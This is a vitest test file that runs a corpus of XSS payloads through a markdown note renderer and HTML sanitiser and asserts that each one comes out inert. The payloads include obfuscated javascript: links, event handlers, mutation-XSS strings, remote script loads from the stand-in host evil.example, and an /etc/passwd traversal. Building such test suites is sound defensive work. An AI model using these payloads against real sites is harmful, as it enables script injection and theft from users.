// Issue 3 (Safety): a corpus of XSS payloads goes through the whole pipeline, and none may survive as live markup.
// Each payload is also fed to the sanitiser alone, as raw HTML: that is the day markdown-it lets markup through.
import { describe, expect, it } from 'vitest';
import { renderNoteBody } from './index.ts';
import { sanitizeNoteHtml } from './sanitize.ts';
import { liveMarkup } from './testing/live-markup.ts';

const ALERT = 'alert(1)';
const DOC = 'DoCuMeNtDoCuMeNt';
const AUDIO = 'AuDiOaUdIoAuDiO1';
// The caller's file facts, as hostile as stored names can get: the name goes into text and addresses.
const HOSTILE_NAME = '"><script>alert(1)</script><img src=x onerror=alert(1)>.pdf';

// [what, payload]
const corpus: [string, string][] = [
	['script tag', '<script>alert(1)</script>'],
	['script tag, upper case, remote', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
	['img onerror', '<img src=x onerror=alert(1)>'],
	['img onerror, mixed case', '<IMG SRC=x OnErRoR=alert(1)>'],
	['handler on a div', '<div onmouseover="alert(1)">hover</div>'],
	['body onload', '<body onload=alert(1)>'],
	['details ontoggle', '<details open ontoggle=alert(1)>'],
	['raw a with javascript:', '<a href="javascript:alert(1)">x</a>'],
	['raw a with a control character', '<a href="&#1;javascript:alert(1)">x</a>'],
	['raw a with an entity newline', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
	['markdown link javascript:', '[x](javascript:alert(1))'],
	['markdown link JaVaScRiPt:', '[x](JaVaScRiPt:alert(1))'],
	['markdown link java&#x09;script:', '[x](java&#x09;script:alert(1))'],
	['markdown link &#106;avascript:', '[x](&#106;avascript:alert(1))'],
	['markdown link hex entities', '[x](&#x6A;avascript&#x3A;alert(1))'],
	['markdown link in angle brackets', '[x](<javascript:alert(1)>)'],
	['markdown link percent-encoded tab', '[x](java%09script:alert(1))'],
	['markdown link vbscript:', '[x](vbscript:msgbox(1))'],
	['markdown link data:text/html', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
	['reference link to javascript:', '[x][ref]\n\n[ref]: javascript:alert(1)'],
	['image javascript:', '![x](javascript:alert(1))'],
	['image JAVASCRIPT: with entities', '![x](&#74;AVASCRIPT:alert(1))'],
	['image data:svg', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
	['image data:png (markdown-it allows it by default)', '![x](data:image/png;base64,iVBORw0KGgo=)'],
	['image src breaking out with a quote', '![x](https://example.org/x.png" onerror="alert(1))'],
	['image inside a javascript: link', '[![x](https://example.org/x.png)](javascript:alert(1))'],
	['wiki link label with an img', '[[Note|<img src=x onerror=alert(1)>]]'],
	['wiki link title with a script', '[[<script>alert(1)</script>]]'],
	['wiki link title javascript:', '[[javascript:alert(1)]]'],
	['wiki link label javascript:', '[[Note|javascript:alert(1)]]'],
	['wiki link title breaking out of href', '[[Evil" onmouseover="alert(1)]]'],
	['id wiki link label with svg', '[[id:hyFh4E8AibDawZdxZGtAojyBHBY|<svg onload=alert(1)>]]'],
	['wiki link as a link text', '[[[x]]](javascript:alert(1))'],
	['style tag with url()', '<style>body{background:url(javascript:alert(1))}</style>'],
	['style attribute with url()', '<p style="background:url(javascript:alert(1))">x</p>'],
	['style attribute with expression()', '<div style="width: expression(alert(1))">x</div>'],
	['svg onload', '<svg onload=alert(1)><circle r=10></svg>'],
	['script inside svg', '<svg><script>alert(1)</script></svg>'],
	['math mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
	['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
	['comment mutation', '<!--<img src="--><img src=x onerror=alert(1)//">'],
	['iframe protocol-relative', '<iframe src=//evil.example></iframe>'],
	['iframe javascript:', '<iframe src="javascript:alert(1)"></iframe>'],
	['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
	[
		'allowed iframe host with an escaped sandbox',
		'<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" sandbox="allow-top-navigation allow-scripts" onload="alert(1)"></iframe>'
	],
	['object', '<object data="javascript:alert(1)"></object>'],
	['embed', '<embed src="javascript:alert(1)">'],
	['form', '<form action="javascript:alert(1)"><button>x</button></form>'],
	['formaction', '<button formaction="javascript:alert(1)">x</button>'],
	['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
	['base href', '<base href="javascript:alert(1)//">'],
	['link stylesheet', '<link rel=stylesheet href=//evil.example/x.css>'],
	['link title with double quotes', '[x](https://example.org "t\\" onmouseover=\\"alert(1)")'],
	['link title with single quotes', '[x](https://example.org \'a" onclick="alert(1)\')'],
	['autolink javascript:', '<javascript:alert(1)>'],
	['autolink vbscript:', '<vbscript:msgbox(1)>'],
	['autolink with a quote', '<https://example.org/"onmouseover="alert(1)">'],
	['named entities', '&lt;script&gt;alert(1)&lt;/script&gt;'],
	['numeric entities', '&#60;script&#62;alert(1)&#60;/script&#62;'],
	['code span', '`<script>alert(1)</script>`'],
	['fence with a hostile info string', '```"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```'],
	['heading with an img', '# <img src=x onerror=alert(1)>'],
	['table cells', '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |'],
	['emphasis around a tag', '*<img src=x onerror=alert(1)>*'],
	['YouTube URL with an injected attribute', 'https://www.youtube.com/watch?v=x" onload="alert(1)'],
	['YouTube URL closing the tag', 'https://www.youtube.com/watch?v=dQw4w9WgXcQ"><script>alert(1)</script>'],
	['YouTube URL with encoded markup', 'https://www.youtube.com/watch?v=dQw4w9WgXcQ%22%3E%3Cscript%3Ealert(1)%3C/script%3E'],
	['youtu.be with an injected time', 'https://youtu.be/dQw4w9WgXcQ?t=1"onload="alert(1)'],
	['Vimeo with injected parameters', 'https://player.vimeo.com/video/1?h=abc&autoplay=1"onload=alert(1)'],
	['Miro board id with markup', 'https://miro.com/app/board/x"><svg onload=alert(1)>/'],
	['PeerTube path on an unknown host', 'https://evil.example/videos/watch/9c9de5e8-0a1e-484a-b099-e80766180a6d'],
	['embed URL with javascript: inside', 'https://www.youtube.com/watch?v=javascript:alert(1)'],
	['xmp', '<xmp><img src=x onerror=alert(1)></xmp>'],
	['file link climbing out of /files', '[x](/files/../../etc/passwd)'],
	['file image breaking out with a quote', '![x](/files/a" onerror="alert(1))'],
	['known file link breaking out with a quote', `[x](/files/${DOC}/r.pdf" onmouseover="alert(1))`],
	['known file link with markup in its label', `[<img src=x onerror=alert(1)>](/files/${DOC}/r.pdf)`],
	['known audio file with markup in its label', `[<svg onload=alert(1)>](/files/${AUDIO}/a.mp3)`],
	['known file as an image with a script label', `![<script>alert(1)</script>](/files/${AUDIO}/a.mp3)`],
	['known file on another origin', `[x](https://evil.example/files/${DOC}/r.pdf)`],
	['raw audio with javascript:', '<audio src="javascript:alert(1)" onplay="alert(1)" controls></audio>'],
	['raw video from another site with a poster', '<video src="https://evil.example/v.mp4" poster="javascript:alert(1)" autoplay></video>'],
	['raw audio protocol-relative', '<audio src="//evil.example/a.mp3"></audio>'],
	['raw video with a source child', '<video controls><source src="https://evil.example/v.mp4"></video>'],
	['raw file card with a handler', `<a class="file-card" href="/files/${DOC}/r.pdf" onclick="alert(1)">x</a>`]
];

const render = (body: string) =>
	renderNoteBody(body, {
		lang: 'fr',
		resolve: (t) => (t.kind === 'title' && t.title === 'Note' ? { href: '/fr/n/AbCdEfGhIjKlMn_-', title: 'Note' } : null),
		createHref: (title) => `/fr/n/new?title=${encodeURIComponent(title)}`,
		attachments: (id) =>
			id === DOC
				? { kind: 'document', filename: HOSTILE_NAME, mime: 'application/pdf', size: 1234, altText: '"><script>alert(1)</script>' }
				: id === AUDIO
					? { kind: 'audio', filename: `${HOSTILE_NAME}.mp3`, mime: 'audio/mpeg', size: 99, altText: '' }
					: null
	}).html;

describe('XSS corpus', () => {
	it('holds at least 40 payloads', () => {
		expect(corpus.length).toBeGreaterThanOrEqual(40);
	});

	it.each(corpus)('renders %s inert', (_, payload) => {
		const html = render(payload);
		expect(liveMarkup(html), html).toEqual([]);
	});

	it.each(corpus)('sanitises %s as raw HTML', (_, payload) => {
		const html = sanitizeNoteHtml(payload);
		expect(liveMarkup(html), html).toEqual([]);
	});

	it('renders the whole corpus as one note inert', () => {
		const html = render(corpus.map(([, p]) => p).join('\n\n'));
		expect(liveMarkup(html)).toEqual([]);
	});

	it('keeps refused links visible as text', () => {
		expect(render('[x](javascript:alert(1))')).toContain('[x](javascript:alert(1))');
	});

	it('strips hostile addresses handed back by the caller', () => {
		const html = renderNoteBody('[[A]] [[B]]', {
			lang: 'en',
			resolve: (t) => (t.kind === 'title' && t.title === 'A' ? { href: 'javascript:alert(1)', title: 'A' } : null),
			createHref: () => 'data:text/html,<script>alert(1)</script>'
		}).html;
		expect(liveMarkup(html)).toEqual([]);
		expect(html).not.toContain(ALERT);
	});

	it('plays only this instance’s files', () => {
		expect(sanitizeNoteHtml(`<audio controls src="/files/${DOC}/a.mp3"></audio>`)).toBe(
			`<audio controls src="/files/${DOC}/a.mp3"></audio>`
		);
		for (const src of ['https://evil.example/a.mp3', '/fr/n/x', '/files/../../etc/passwd', 'javascript:alert(1)', '']) {
			expect(sanitizeNoteHtml(`<video controls src="${src}"></video>`), src).toBe('');
		}
	});

	it('refuses a frame to an allowed host over http, or to an unknown one', () => {
		expect(sanitizeNoteHtml('<iframe src="http://miro.com/app/live-embed/x/"></iframe>')).toBe('');
		expect(sanitizeNoteHtml('<iframe src="https://evil.example/videos/embed/x"></iframe>')).toBe('');
	});
});

// The checker must itself see what it is asked to catch, or a green corpus would prove nothing.
describe('the live-markup checker', () => {
	// [what, html]
	const live: [string, string][] = [
		['a script', '<script>alert(1)</script>'],
		['a handler in any case', '<p OnClick="alert(1)">x</p>'],
		['an entity-hidden javascript: href', '<a href="java&#x09;script:alert(1)">x</a>'],
		['a percent-hidden javascript: href', '<a href="java%0Ascript:alert(1)">x</a>'],
		['a data: image', '<img src="data:image/svg+xml,x">'],
		['a style attribute', '<p style="color:red">x</p>'],
		['an svg', '<svg></svg>'],
		[
			'a frame to another host',
			'<iframe src="https://evil.example/" sandbox="allow-scripts allow-same-origin allow-presentation"></iframe>'
		],
		['a frame without sandbox', '<iframe src="https://miro.com/app/live-embed/x/"></iframe>'],
		['an unexpected element', '<marquee>x</marquee>']
	];
	it.each(live)('flags %s', (_, html) => {
		expect(liveMarkup(html)).not.toEqual([]);
	});
});
